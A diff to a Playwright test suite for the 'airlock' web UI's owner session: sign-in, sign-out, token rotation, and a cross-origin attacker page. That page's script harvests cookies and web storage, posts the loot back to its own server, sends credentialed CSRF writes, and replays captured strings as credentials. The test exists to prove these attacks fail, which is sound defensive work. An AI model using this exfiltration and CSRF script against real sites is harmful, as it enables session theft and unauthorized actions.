@@ -1,12 +1,13 @@
 /**
  * The owner's session in the web UI (spec/authority.md §1, §4) against a real
  * `airlock serve` in headless Chromium: the printed sign-in link, the pasted
- * owner token, the signed-out screen, sign-out, and a page on another
- * loopback port that tries to act with the owner's cookie.
+ * owner token, the signed-out screen, sign-out, `airlock owner rotate`, and a
+ * page on another loopback port that tries to act with whatever the signed-in
+ * browser sends it (issue 25: there is no cookie to catch).
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createServer, type Server } from 'node:http';
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
@@ -15,6 +16,7 @@ import { listenLoopback, startServe, type Served } from '../helpers/servers.js';
 import { a11yProblems, collectErrors, screenshots, type UiPage } from './browser.js';
 import { launchChromium } from '../helpers/browser.js';
 import { connectAgent, type Agent } from './mcp.js';
+import { run } from '../helpers/cli.js';
 
 const dir = mkdtempSync(join(tmpdir(), 'airlock-web-session-'));
 let served: Served;
@@ -66,6 +68,13 @@ async function owner<T>(path: string, init: RequestInit = {}): Promise<T> {
   return (await res.json()) as T;
 }
 
+/** The session header the workspace page keeps in its sessionStorage (what a copy would hold). */
+async function sessionOf(page: Page): Promise<Record<string, string>> {
+  const stored = await page.evaluate(() => sessionStorage.getItem('airlock.ownerSession'));
+  const { header, secret } = JSON.parse(stored ?? 'null') as { header: string; secret: string };
+  return { [header]: secret };
+}
+
 const pendingIds = async () =>
   (await owner<{ approvals: { id: string }[] }>('approvals')).approvals.map((a) => a.id);
 
@@ -80,11 +89,9 @@ describe('web UI: the owner session', () => {
     await expect(
       first.page.getByRole('navigation', { name: 'Workspace' }).isVisible(),
     ).resolves.toBe(true);
-    const cookies = await first.context.cookies();
-    expect(cookies.find((c) => c.name === 'airlock_owner')).toMatchObject({
-      httpOnly: true,
-      sameSite: 'Strict',
-    });
+    // The session is this tab's sessionStorage entry; the browser holds no cookie at all.
+    expect(await first.context.cookies()).toEqual([]);
+    expect(await sessionOf(first.page)).toMatchObject({ 'x-airlock-session': /^os_/ });
     expect(first.errors).toEqual([]);
 
     const second = await freshPage();
@@ -121,8 +128,8 @@ describe('web UI: the owner session', () => {
     await expect(page.locator('body').textContent()).resolves.not.toContain('ledger');
     await expect(page.locator('#live').textContent()).resolves.toBe('Signed out');
     await expect(signInError(page).textContent()).resolves.toBe('');
-    // It asked only whether this browser is signed in: no data, no event stream.
-    expect(api).toEqual(['GET /api/v1/session']);
+    // This tab holds no session: it asked nothing, no data, no event stream.
+    expect(api).toEqual([]);
     const ui: UiPage = { page, context: page.context(), errors, a11y: [] };
     await screenshots(ui, 'sign-in');
     expect(ui.a11y).toEqual([]);
@@ -160,7 +167,7 @@ describe('web UI: the owner session', () => {
     await page.goto(`${served.url}/#/settings`);
     await paste(page, served.ownerToken!);
     await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();
-    const cookie = (await context.cookies()).find((c) => c.name === 'airlock_owner')!.value;
+    const session = await sessionOf(page);
 
     await page.getByRole('button', { name: 'Sign out' }).click();
     await signInScreen(page).waitFor();
@@ -168,29 +175,29 @@ describe('web UI: the owner session', () => {
     await expect(page.locator('[data-approval-id]').count()).resolves.toBe(0);
     await expect(page.locator('#live').textContent()).resolves.toBe('Signed out');
     expect(await context.cookies()).toEqual([]);
-    // The session ended on the server too: its cookie no longer opens owner routes.
-    const replayed = await fetch(`${served.url}/api/v1/grants`, {
-      headers: { cookie: `airlock_owner=${cookie}` },
-    });
+    await expect(page.evaluate(() => sessionStorage.length)).resolves.toBe(0);
+    // The session ended on the server too: its header no longer opens owner routes.
+    const replayed = await fetch(`${served.url}/api/v1/grants`, { headers: session });
     expect(replayed.status).toBe(401);
     await page.reload();
     await signInScreen(page).waitFor();
     expect(errors).toEqual([]);
   });
 
-  it('returns to the sign-in screen at the next request once the session ended in another tab', async () => {
-    const { page, context } = await freshPage();
+  it('returns to the sign-in screen at the next request once the session ended elsewhere', async () => {
+    const { page } = await freshPage();
     await page.goto(`${served.url}/#/approvals`);
     await paste(page, served.ownerToken!);
     await page.locator('#live[data-state="live"]').waitFor();
     await expect.poll(() => page.locator('[data-approval-id]').count()).toBeGreaterThan(0);
 
-    const other = await context.newPage();
-    await other.goto(`${served.url}/#/settings`);
-    await other.getByRole('button', { name: 'Sign out' }).click();
-    await signInScreen(other).waitFor();
+    const ended = await fetch(`${served.url}/api/v1/session`, {
+      method: 'DELETE',
+      headers: { ...(await sessionOf(page)), origin: served.url },
+    });
+    expect(ended.status).toBe(204);
 
-    // The first tab's next request is answered 401: back to sign-in, its data gone.
+    // The tab's event stream ends and its next request is answered 401: back to sign-in, its data gone.
     await page.evaluate(() => (location.hash = '#/audit'));
     await signInScreen(page).waitFor();
     await expect(page.locator('[data-approval-id]').count()).resolves.toBe(0);
@@ -208,33 +215,61 @@ function pngBase64(): string {
   return canvas.toBuffer('image/png').toString('base64');
 }
 
-/** The attacker's page: three writes to Airlock with whatever cookies the browser sends. */
+/**
+ * The attacker's page: it reads everything its own origin holds, tries to
+ * read Airlock's session answer, sends three writes to Airlock with whatever
+ * credentials the browser adds, and posts all it gathered back to its server.
+ */
 function attackPage(airlock: string, approvalID: string, png: string): string {
   const script = `
 const airlock = ${JSON.stringify(airlock)};
 const png = Uint8Array.from(atob(${JSON.stringify(png)}), (c) => c.charCodeAt(0));
 const form = new FormData();
 form.append('file', new Blob([png], { type: 'image/png' }), 'evil.png');
+const loot = { cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage } };
+const read = (path) => fetch(airlock + path, { credentials: 'include' })
+  .then((r) => r.text(), (e) => 'refused: ' + e.message);
 Promise.allSettled([
+  read('/api/v1/session').then((t) => (loot.sessionAnswer = t)),
+  read('/api/v1/approvals').then((t) => (loot.approvals = t)),
   fetch(airlock + '/api/v1/approvals/${encodeURIComponent(approvalID)}/approve', {
     method: 'POST', credentials: 'include', mode: 'no-cors',
     headers: { 'content-type': 'text/plain; x=json' }, body: '{"resource":"x"}',
   }),
   fetch(airlock + '/api/v1/pages', { method: 'POST', credentials: 'include', mode: 'no-cors', body: form }),
   fetch(airlock + '/api/v1/history/undo', { method: 'POST', credentials: 'include', mode: 'no-cors' }),
-]).then((r) => { document.title = 'sent: ' + r.map((x) => x.status).join(','); });
+]).then(async (r) => {
+  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
+  document.title = 'sent: ' + r.map((x) => x.status).join(',');
+});
 `;
   return `<!doctype html><title>attacker</title><script>${script}</script>`;
 }
 
+interface Received {
+  headers: Record<string, string>;
+  body: string;
+}
+
+/** Every string in the attacker's haul that could be a credential (long enough, no spaces). */
+function candidates(received: Received[]): string[] {
+  const found = new Set<string>();
+  for (const r of received) {
+    for (const [name, value] of Object.entries(r.headers))
+      if (name === 'cookie')
+        for (const part of value.split(';')) found.add(part.trim().split('=').slice(1).join('='));
+    for (const m of r.body.matchAll(/[\w-]{20,}/g)) found.add(m[0]);
+  }
+  return [...found].filter((v) => v.length >= 20);
+}
+
 describe('web UI: a page on another loopback port', () => {
-  let attacker: Server;
-  let attackerUrl = '';
+  const attackers: Server[] = [];
   afterAll(async () => {
-    await new Promise((r) => attacker?.close(r));
+    await Promise.all(attackers.map((a) => new Promise((r) => a.close(r))));
   });
 
-  it("cannot approve, undo or upload with the signed-in owner's cookie", async () => {
+  it('receives nothing that approves, undoes or uploads anything', async () => {
     // Something to approve, something to undo, pages to count.
     const asked = await agent.call('ledger_request_write_access');
     const approvalID = String(asked.body.approvalID);
@@ -264,37 +299,115 @@ describe('web UI: a page on another loopback port', () => {
     await paste(page, served.ownerToken!);
     await page.locator(`[data-approval-id="${approvalID}"]`).waitFor();
 
-    attacker = createServer((_req, res) => {
-      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
-      res.end(attackPage(served.url, approvalID, pngBase64()));
+    // The attacker's server: every request it receives, headers and body.
+    const received: Received[] = [];
+    const attacker = createServer((req, res) => {
+      let body = '';
+      req.on('data', (d: Buffer) => (body += d.toString()));
+      req.on('end', () => {
+        received.push({ headers: req.headers as Record<string, string>, body });
+        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+        res.end(req.url === '/loot' ? '' : attackPage(served.url, approvalID, pngBase64()));
+      });
     });
-    attackerUrl = `http://127.0.0.1:${await listenLoopback(attacker)}/`;
-    expect(new URL(attackerUrl).port).not.toBe(new URL(served.url).port);
-    const evil = await context.newPage();
-    await evil.goto(attackerUrl);
-    // Every request was sent and answered (opaque answers: the page cannot read them).
-    await expect.poll(() => evil.title()).toBe('sent: fulfilled,fulfilled,fulfilled');
+    attackers.push(attacker);
+    const port = await listenLoopback(attacker);
+    expect(String(port)).not.toBe(new URL(served.url).port);
+    // The UI's own host name on another port (same site), and the other loopback spelling.
+    for (const host of [new URL(served.url).hostname, 'localhost', '127.0.0.1']) {
+      const evil = await context.newPage();
+      await evil.goto(`http://${host}:${port}/`);
+      // Every request was sent and answered (opaque answers: the page cannot read them).
+      await expect
+        .poll(() => evil.title())
+        .toBe('sent: fulfilled,fulfilled,fulfilled,fulfilled,fulfilled');
+      await evil.close();
+    }
+    const loot = received.filter((r) => r.body !== '');
+    expect(loot).toHaveLength(3);
+    for (const r of loot) {
+      const haul = JSON.parse(r.body) as Record<string, unknown>;
+      expect(haul).toMatchObject({ cookie: '', session: {}, local: {} });
+      expect(String(haul.sessionAnswer)).toMatch(/^refused/);
+      expect(String(haul.approvals)).toMatch(/^refused/);
+    }
+
+    // Replay everything it received against the approve route, as cookie, session header and bearer.
+    const approve = (headers: Record<string, string>) =>
+      fetch(`${served.url}/api/v1/approvals/${encodeURIComponent(approvalID)}/approve`, {
+        method: 'POST',
+        headers: { ...headers, 'content-type': 'application/json', origin: served.url },
+        body: '{}',
+      });
+    // Each credential it could have caught, and whatever the session route answers to it
+    // (the old attack: the cookie fetched the CSRF token there) sent along as a CSRF header.
+    // Every request's headers as the browser sent them (the page, the haul), minus the transport's own.
+    const caught: Record<string, string>[] = received.map((r) =>
+      Object.fromEntries(
+        Object.entries(r.headers).filter(
+          ([name]) => !['host', 'content-length', 'connection', 'origin', 'referer'].includes(name),
+        ),
+      ),
+    );
+    for (const value of candidates(received))
+      caught.push(
+        { 'x-airlock-session': value },
+        { authorization: `Bearer ${value}` },
+        { cookie: `airlock_owner=${value}` },
+      );
+    expect(caught.length).toBeGreaterThan(0);
+    for (const headers of caught) {
+      const answer = await (await fetch(`${served.url}/api/v1/session`, { headers })).text();
+      const csrf = [...answer.matchAll(/[\w-]{20,}/g)].map((m) => m[0]);
+      for (const extra of [{}, ...csrf.map((c) => ({ 'x-airlock-csrf': c }))])
+        expect(
+          (await approve({ ...headers, ...extra })).status,
+          JSON.stringify(headers),
+        ).toBeGreaterThanOrEqual(400);
+    }
 
     expect(await pendingIds()).toContain(approvalID);
     expect(await meta()).toEqual(before.meta);
     expect(await pages()).toBe(before.pages);
     await expect(page.locator(`[data-approval-id="${approvalID}"]`).count()).resolves.toBe(1);
 
-    // The same undo and upload from the workspace's own page, with its CSRF header, do work.
+    // The same undo and upload from the workspace's own page, with its session header, do work.
     const done = await page.evaluate(async (png) => {
-      const { csrf, csrfHeader } = (await (await fetch('/api/v1/session')).json()) as {
-        csrf: string;
-        csrfHeader: string;
+      const { header, secret } = JSON.parse(sessionStorage.getItem('airlock.ownerSession')!) as {
+        header: string;
+        secret: string;
       };
       const body = new FormData();
       const bytes = Uint8Array.from(atob(png), (c) => c.charCodeAt(0));
       body.append('file', new Blob([bytes], { type: 'image/png' }), 'own.png');
-      const headers = { [csrfHeader]: csrf };
+      const headers = { [header]: secret };
       const upload = await fetch('/api/v1/pages', { method: 'POST', headers, body });
       const undo = await fetch('/api/v1/history/undo', { method: 'POST', headers });
       return [upload.status, undo.status];
     }, pngBase64());
     expect(done).toEqual([201, 200]);
     expect((await meta()).epoch).toBeGreaterThan(before.meta.epoch);
+    // And the approve route the replays tried does approve with the page's own session.
+    expect((await approve(await sessionOf(page))).status).toBe(200);
+  });
+});
+
+describe('web UI: airlock owner rotate', () => {
+  it('signs every browser out at once: its event stream ends and the page returns to sign-in', async () => {
+    const tabs = [await freshPage(), await freshPage()];
+    for (const { page } of tabs) {
+      await page.goto(`${served.url}/#/approvals`);
+      await paste(page, served.ownerToken!);
+      await page.locator('#live[data-state="live"]').waitFor();
+    }
+    const sessions = await Promise.all(tabs.map(({ page }) => sessionOf(page)));
+    const rotated = await run(['owner', 'rotate', '--data', dir]);
+    expect(rotated.code, rotated.stderr).toBe(0);
+    // Right after the command: every session is refused.
+    for (const headers of sessions)
+      expect((await fetch(`${served.url}/api/v1/approvals`, { headers })).status).toBe(401);
+    // The open event streams end without any click: each tab is back on the sign-in screen.
+    for (const { page } of tabs) await signInScreen(page).waitFor({ timeout: 5000 });
+    served.ownerToken = readFileSync(join(dir, 'owner.token'), 'utf8').trim();
   });
 });
